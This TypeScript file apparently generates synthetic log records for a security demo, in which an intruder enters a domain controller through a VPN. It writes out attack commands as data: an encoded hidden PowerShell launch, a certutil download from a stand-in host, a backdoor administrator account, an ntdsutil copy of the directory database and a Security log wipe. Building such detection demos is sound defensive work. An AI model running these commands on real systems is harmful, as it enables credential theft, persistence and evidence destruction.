import { after } from './activity.ts'
import { COMPANY } from './company.ts'
import { traffic, vpn } from './records/fortigate.ts'
import { logon } from './records/logon.ts'
import {
  auditedStart,
  processStart,
  security,
  sidOf,
  subjectOf,
  sysmon,
} from './records/windows.ts'
import type { DemoRecord, Moment } from './wire.ts'

const DC = COMPANY.domainController
const SYSTEM = 'C:\\Windows\\System32\\'
const SHELL = `${SYSTEM}cmd.exe`
const POWERSHELL = `${SYSTEM}WindowsPowerShell\\v1.0\\powershell.exe`
const TUNNEL_IP = '10.20.250.17'

/** Where the domain controller calls home to; the indicator list of the demo names both. */
export const HOME = { ip: '198.51.100.77', name: 'cdn-telemetry.example' } as const

/** What the stranger types on the domain controller: program, command line, minutes after the VPN. */
const TYPED = [
  [6, `${SYSTEM}whoami.exe`, 'whoami /all'],
  [7, `${SYSTEM}net.exe`, 'net group "Domain Admins" /domain'],
  [
    9,
    POWERSHELL,
    'powershell.exe -nop -w hidden -enc SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0ACAAaAB0AHQAcABzADoALwAvAGMAZABuAA==',
  ],
  [
    11,
    `${SYSTEM}certutil.exe`,
    `certutil -urlcache -split -f https://${HOME.name}/u.bin C:\\Users\\Public\\u.exe`,
  ],
  [15, `${SYSTEM}net.exe`, 'net user svc-backup2 Winter-2026-example /add'],
  [16, `${SYSTEM}net.exe`, 'net localgroup Administrators svc-backup2 /add'],
  [
    22,
    `${SYSTEM}ntdsutil.exe`,
    'ntdsutil "ac i ntds" "ifm" "create full C:\\Users\\Public\\m" q q',
  ],
  [36, `${SYSTEM}wevtutil.exe`, 'wevtutil cl Security'],
] as const

/** Through the VPN to the domain controller: look around, fetch a tool, make an administrator, copy the directory, leave. */
export function invade(moment: Moment, intruder: { ip: string; victim: string }): DemoRecord[] {
  const user = intruder.victim
  const at = (minutes: number) => after(moment, minutes * 60)
  return [
    vpn(moment, { action: 'tunnel-up', user, ip: intruder.ip, tunnelIp: TUNNEL_IP }),
    logon(at(3), { user, ip: TUNNEL_IP, type: 3, station: 'DESKTOP-7Q2' }),
    security(at(3.2), {
      id: 5140,
      host: DC.host,
      data: {
        ...subjectOf(user),
        ObjectType: 'File',
        IpAddress: TUNNEL_IP,
        IpPort: '50211',
        ShareName: '\\\\*\\C$',
        ShareLocalPath: '\\??\\C:\\',
        AccessMask: '0x1',
        AccessList: '%%4416',
      },
    }),
    logon(at(4), { user, ip: TUNNEL_IP, type: 10, station: 'DC1' }),
    ...TYPED.flatMap(([minutes, image, command]) => {
      const started = {
        host: DC.host,
        user,
        image,
        command,
        parent: SHELL,
        integrity: 'High',
      } as const
      return [processStart(at(minutes), started), auditedStart(at(minutes), started)]
    }),
    ...callHome(at(9.1), user),
    security(at(15.1), {
      id: 4720,
      host: DC.host,
      data: {
        ...subjectOf(user),
        TargetUserName: 'svc-backup2',
        TargetDomainName: COMPANY.netbios,
        TargetSid: sidOf('svc-backup2'),
        SamAccountName: 'svc-backup2',
      },
    }),
    security(at(16.1), {
      id: 4732,
      host: DC.host,
      data: {
        ...subjectOf(user),
        MemberName: '-',
        MemberSid: sidOf('svc-backup2'),
        TargetUserName: 'Administrators',
        TargetDomainName: 'Builtin',
        TargetSid: 'S-1-5-32-544',
      },
    }),
    traffic(at(28), 'edge', {
      srcIp: DC.ip,
      dstIp: HOME.ip,
      port: 443,
      service: 'HTTPS',
      action: 'close',
      from: 'servers',
      to: 'wan1',
      sentBytes: 431_882_240,
      user,
    }),
    security(at(36.1), { id: 1102, host: DC.host, userData: subjectOf(user) }),
    vpn(at(38), { action: 'tunnel-down', user, ip: intruder.ip, tunnelIp: TUNNEL_IP }),
  ]
}

function callHome(moment: Moment, user: string): DemoRecord[] {
  const who = `${COMPANY.netbios}\\${user}`
  return [
    sysmon(moment, {
      id: 22,
      host: DC.host,
      data: {
        QueryName: HOME.name,
        QueryStatus: '0',
        QueryResults: `::ffff:${HOME.ip};`,
        Image: POWERSHELL,
        User: who,
      },
    }),
    sysmon(after(moment, 0.4), {
      id: 3,
      host: DC.host,
      data: {
        Image: POWERSHELL,
        User: who,
        Protocol: 'tcp',
        Initiated: 'true',
        SourceIsIpv6: 'false',
        SourceIp: DC.ip,
        SourceHostname: DC.host,
        SourcePort: '50999',
        SourcePortName: '-',
        DestinationIsIpv6: 'false',
        DestinationIp: HOME.ip,
        DestinationHostname: '-',
        DestinationPort: '443',
        DestinationPortName: 'https',
      },
    }),
  ]
}
